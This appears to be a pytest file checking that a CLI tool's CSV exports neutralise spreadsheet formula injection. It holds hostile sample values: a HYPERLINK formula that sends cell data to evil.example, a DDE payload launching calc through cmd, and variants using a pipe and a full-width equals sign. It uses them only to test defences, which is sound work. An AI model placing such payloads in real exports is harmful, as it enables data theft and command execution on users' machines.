"""Every ``--format csv`` output is safe to open in a spreadsheet (issue #12, part 5)."""

from __future__ import annotations

import csv
import io

import pytest

from beltroad.cli.main import main
from beltroad.cli.output import to_csv
from beltroad.records import (
    CountrySplit,
    Money,
    OrgRef,
    Participation,
    ProjectRecord,
    Provenance,
)
from beltroad.services.workspace import Workspace
from beltroad.settings import Settings
from beltroad.storage.writes import write_projects

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"
WIDE = '\uff1dHYPERLINK("http://evil.example")'
PIPE = "|cmd /C calc"


def cells(output: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(output)) for cell in row]


def assert_inert(output: str, *hostile: str) -> None:
    found = cells(output)
    for value in hostile:
        assert value not in found, f"{value!r} printed raw"
        assert "'" + value in found, f"{value!r} not printed guarded"


def test_to_csv_guards_text_and_keeps_numbers() -> None:
    rows = [
        {"name": LINK, "amount": -5000, "share": -0.25, "note": "-5000"},
        {"name": PIPE, "amount": 1.5, "share": None, "note": WIDE},
    ]
    output = to_csv(rows)
    assert_inert(output, LINK, PIPE, WIDE)
    parsed = list(csv.DictReader(io.StringIO(output)))
    first = parsed[0]
    assert (first["amount"], first["share"], first["note"]) == ("-5000", "-0.25", "-5000")


def test_to_csv_refuses_a_row_with_unknown_columns() -> None:
    with pytest.raises(ValueError, match="not in fieldnames"):
        to_csv([{"a": 1}, {"a": 2, "b": 3}])


@pytest.fixture
def hostile(workspace: Workspace) -> Workspace:
    bank = OrgRef(name=LINK, ref="XE-EVIL")
    other = OrgRef(name=PIPE, ref="XE-PIPE")
    with workspace.writing() as connection:
        write_projects(
            connection,
            [
                ProjectRecord(
                    identifier=ident,
                    title=WIDE,
                    provenance=Provenance(
                        dataset="evil", source_record_id=ident, recommended_for_aggregates=True
                    ),
                    amount=Money(usd_constant=1e6, base_year=2021),
                    countries=(CountrySplit("KEN"),),
                    commitment_year=2015,
                    participations=(Participation(org, "funding"),),
                )
                for ident, org in (("XE-1", bank), ("XE-2", other))
            ],
        )
    return workspace


def test_breakdown_csv_is_guarded(
    hostile: Workspace, settings: Settings, capsys: pytest.CaptureFixture[str]
) -> None:
    db = settings.database_url
    assert main(["--db", db, "breakdown", "--by", "financier", "-f", "csv"]) == 0
    assert_inert(capsys.readouterr().out, LINK, PIPE)


def test_risk_register_list_csv_is_guarded(
    hostile: Workspace, settings: Settings, capsys: pytest.CaptureFixture[str]
) -> None:
    base = ["--db", settings.database_url, "--data-dir", str(settings.data_dir)]
    for title in (DDE, WIDE):
        code = main(
            [
                *base,
                *("risk", "register", "add", "--subject", "country:KEN", "--category"),
                *("currency", "--title", title, "--likelihood", "3", "--impact", "4"),
                *("-f", "json"),
            ]
        )
        assert code == 0
    capsys.readouterr()
    assert main([*base, "risk", "register", "list", "--subject", "country:KEN", "-f", "csv"]) == 0
    assert_inert(capsys.readouterr().out, DDE, WIDE)
